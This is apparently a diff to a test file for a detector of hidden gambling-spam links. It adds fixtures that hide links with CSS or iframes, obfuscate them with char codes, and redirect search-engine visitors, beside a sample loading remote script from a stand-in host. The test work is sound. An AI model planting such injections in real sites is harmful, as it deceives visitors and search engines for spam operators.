@@ -72,6 +72,8 @@ def _inline() -> list[Case]:
         Case("A neutral text, zero font", boxed("font-size:0", '<a href="http://x.example/">网上平台</a>')),
         Case("A separated letters", boxed("display:none", '<a href="http://x.example/">时·时·彩</a>')),
         Case("A full-width letters", boxed("display:none", '<a href="http://x.example/">ＰＫ１０开奖</a>')),
+        Case("A many neutral in one box", boxed("display:none", " ".join(f'<a href="http://x{n}.x.example/">网上商城{n}</a>' for n in range(5)))),
+        Case("A planted on the site", boxed("display:none", '<a href="http://www.x.example.edu.cn/a.html">时时彩平台</a>')),
         Case("A look-alike letters", boxed("display:none", '<a href="http://x.example/">亚愽体育</a>')),
     ]  # fmt: skip
 
@@ -103,6 +105,9 @@ def _tags() -> list[Case]:
         Case("B comment", f"<!-- {link()} -->"),
         Case("B comment many", f"<!--{link(1)} {link(2)}-->"),
         Case("B svg anchor", f'<svg width=0 height=0><a xlink:href="{TARGET}"><text>时时彩</text></a></svg>'),
+        Case("B dialog", f"<dialog>{link(1)}</dialog>"),
+        Case("B frame contents", f"<iframe width=0 height=0 srcdoc=\"&lt;a href='{TARGET}'&gt;时时彩&lt;/a&gt;\"></iframe>"),
+        Case("B data markup", f'<div data-html="&lt;a href=&quot;{TARGET}&quot;&gt;时时彩&lt;/a&gt;"></div>'),
         Case("B json-ld", '<script type="application/ld+json">{"@type":"WebSite","name":"时时彩平台","url":"http://x.example/"}</script>'),
         Case("B base", head=f'<base href="{TARGET}">'),
         Case("B canonical", head=f'<link rel="canonical" href="{TARGET}">'),
@@ -174,6 +179,14 @@ def _scripts() -> list[Case]:
         Case("D referrer", f'<script>if(document.referrer.indexOf("baidu")>0){{location.href="{TARGET}"}}</script>'),
         Case("D referrer regexp", f"<script>var r=document.referrer;if(/baidu|sogou|so\\.com/i.test(r)){{window.location.replace('{TARGET}')}}</script>"),
         Case("D user agent", f"<script>if(/Android|iPhone/i.test(navigator.userAgent)&&document.referrer.indexOf('baidu')!=-1){{top.location='{TARGET}'}}</script>"),
+        Case("D style attribute", f'<div id=zz>{link()}</div><script>document.getElementById("zz").setAttribute("style","display:none")</script>'),
+        Case("D style text far away", f"<div id=zz>{link()}</div><script>var e=document.getElementById('zz');e.style.cssText='position:absolute;left:-9999px'</script>"),
+        Case("D class added", f'<style>.oo{{display:none}}</style><div id=zz>{link()}</div><script>document.getElementById("zz").classList.add("oo")</script>'),
+        Case("D removed", f'<div id=zz>{link()}</div><script>document.getElementById("zz").remove()</script>'),
+        Case("D char codes applied", f"<script>document.write(String.fromCharCode.apply(null,[{codes}]))</script>"),
+        Case("D char codes in an array", f"<script>var a=[{codes}],s='';for(var i=0;i<a.length;i++)s+=String.fromCharCode(a[i]);document.write(s)</script>"),
+        Case("D joined", f"<script>document.write(['<a href=\"{TARGET}\">时时彩','</a>'].join(''))</script>"),
+        Case("D names", "<script>var p='http://x.',q='example',t='时时彩';document.write('<a href=\"'+p+q+'/\">'+t+'</a>')</script>"),
         Case("D created script", "<script>(function(){var s=document.createElement('script');s.src='http://x.example/b.js?'+Math.random();document.head.appendChild(s)})()</script>"),
     ]  # fmt: skip
 
